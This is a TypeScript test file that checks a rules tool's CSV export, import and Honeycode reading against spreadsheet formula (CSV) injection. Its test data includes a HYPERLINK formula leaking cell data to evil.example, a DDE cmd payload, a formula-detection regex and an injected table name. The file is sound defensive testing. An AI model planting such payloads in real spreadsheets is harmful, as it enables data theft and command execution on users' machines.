import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PutItemCommand, ScanCommand } from '@aws-sdk/client-dynamodb';
import fc from 'fast-check';
import Papa from 'papaparse';
import { createHoneycodeApi } from '../../src/adapters/honeycode/honeycode-client';
import { HoneycodeRuleReader } from '../../src/adapters/honeycode/honeycode-rule-reader';
import { parseConfig } from '../../src/contract/config';
import { toTable } from '../../src/operations/rules/rule-format';
import { readRuleText } from '../../src/rule-language/parse/text';
import { runCommand } from '../support/command';
import { EmbeddedDynamoDb } from '../support/embedded-dynamodb';
import { FakeHoneycode } from '../support/fake-honeycode';
import { functionEnvironment } from '../support/stack-config';

/** Cells that Excel, LibreOffice and Google Sheets treat as formulas (OWASP, CSV injection). */
const FORMULA = /^\s*[=+\-@|\uFF1D\uFF0B\uFF0D\uFF20\uFF5C\t\r\n]/;
/** Numbers, and operators on their own. */
const HARMLESS = /^(-\d[\d,]*(\.\d+)?|==?)$/;

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1)',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  "'=1",
  "''@x",
  ' =1',
  '\u3000+1',
  '|calc',
  '\uFF1DSUM(1)',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(1)',
];

describe('a table that is pulled and opened in a spreadsheet', () => {
  let dynamoDb: EmbeddedDynamoDb;
  let folder: string;
  beforeAll(async () => {
    dynamoDb = await EmbeddedDynamoDb.start();
    folder = mkdtempSync(join(tmpdir(), 'spreadsheets-'));
  });
  afterAll(async () => {
    await dynamoDb.close();
    rmSync(folder, { recursive: true });
  });

  const RULE = { 'RuleType': 'aggregator', 'Operator-V': '>=', 'Target-V': '-5', 'Metric': 'amount' };
  async function pulled(
    name: string,
    ...items: Record<string, string>[]
  ): Promise<{
    text: string;
    path: string;
    run: (...args: string[]) => ReturnType<typeof runCommand>;
    scan: () => Promise<unknown>;
  }> {
    const table = await dynamoDb.createTable(name, 'RuleId');
    for (const [i, item] of items.entries()) {
      await dynamoDb.client.send(
        new PutItemCommand({
          TableName: table,
          Item: Object.fromEntries(
            Object.entries({ RuleId: String(i), ...RULE, ...item }).map(([column, value]) => [
              column,
              { S: value },
            ]),
          ),
        }),
      );
    }
    const path = join(folder, `${name}.csv`);
    const run = (...args: string[]) =>
      runCommand(['rules', ...args, '--table', table], {
        endpoints: { AWS_ENDPOINT_URL_DYNAMODB: dynamoDb.endpoint },
      });
    expect((await run('pull', '--out', path)).status).toBe(0);
    return {
      text: readFileSync(path, 'utf8'),
      path,
      run,
      scan: async () => (await dynamoDb.client.send(new ScanCommand({ TableName: table }))).Items,
    };
  }

  test('holds no formula, in cells, headings or ids', async () => {
    const { text } = await pulled(
      'formulas',
      ...FORMULAS.map((formula, i) => ({ EventName: formula, Output: `out-${i}`, Description: formula })),
      { 'RuleId': '=1+1', 'EventName': 'x', '=2+2': '=3+3' },
    );
    const cells = Papa.parse<string[]>(text).data.flat();
    expect(cells.filter((cell) => FORMULA.test(cell) && !HARMLESS.test(cell))).toEqual([]);
    // Numbers stay numbers.
    expect(cells).toContain('-5');
    expect(cells).toContain('>=');
  });

  test('says the same when it is pushed back', async () => {
    const { path, run, scan } = await pulled(
      'back',
      ...FORMULAS.filter((text) => text.trim() === text).map((formula, i) => ({
        EventName: formula,
        Output: `out-${i}`,
      })),
    );
    const before = await scan();
    expect(await run('diff', path)).toMatchObject({
      status: 0,
      stdout: '0 to add, 0 to change, 0 to remove\n',
    });
    expect(await scan()).toEqual(before);
  });

  test('that is imported from a sheet holds none either', async () => {
    const sheet = join(folder, 'sheet.csv');
    writeFileSync(
      sheet,
      'RuleType,EventName,Operator-C,Target-C,Description\n' +
        'aggregator,click,equal,1,"=HYPERLINK(""http://evil.example"")"\n',
    );
    const { stdout } = await runCommand(['rules', 'import', sheet]);
    expect(Papa.parse<string[]>(stdout).data[1]).toContain('\'=HYPERLINK("http://evil.example")');
  });
});

test('any cell says the same after it was written and read, and is no formula while it is written', () => {
  const cells = fc
    .oneof(
      fc.string(),
      fc.string({ unit: fc.constantFrom('=', '+', '-', '@', "'", '1', '.', ',', 'x', '"', '\n') }),
    )
    .map((text) => text.trim())
    .filter((text) => text !== '');
  fc.assert(
    fc.property(cells, (cell) => {
      const text = toTable(
        [{ id: '1', cells: { RuleType: 'aggregator', EventName: 'click', Description: cell } }],
        false,
      );
      const written = Papa.parse<string[]>(text).data[1][2];
      expect(FORMULA.test(written) && !HARMLESS.test(written)).toBe(false);
      expect(readRuleText(text).rows[0].cells.Description).toBe(cell);
    }),
    { numRuns: 500 },
  );
});

test('a row of a Honeycode table reaches no formula that Honeycode evaluates', async () => {
  const fake = await FakeHoneycode.start();
  const api = createHoneycodeApi({
    endpoint: fake.endpoint,
    region: 'us-west-2',
    credentials: { accessKeyId: 'test', secretAccessKey: 'test' },
  });
  await new HoneycodeRuleReader(() => api, {
    workbookId: '111c6cea-af2a-41bb-ba31-92759c730076',
    tableId: '636dfdb5-232b-468f-890c-92de2ae1c87a',
    tableName: 'rules',
  }).read();
  await fake.close();
  expect(fake.formulas).toEqual(['=Filter(rules,"rules[RuleType]<>%","")']);
});

test('a name of a Honeycode table that would be a formula is refused, even where only a deployment knows it', () => {
  const environment = functionEnvironment({
    ruleSources: [
      {
        kind: 'honeycode',
        parameters: { workbookId: 'w', tableId: 't', tableName: 'rules', region: 'us-west-2' },
      },
    ],
  });
  expect(() => parseConfig(environment.CONFIG)).not.toThrow();
  expect(() => parseConfig(environment.CONFIG.replace('"rules"', '"rules,Delete(users)"'))).toThrow(
    'tableName',
  );
});
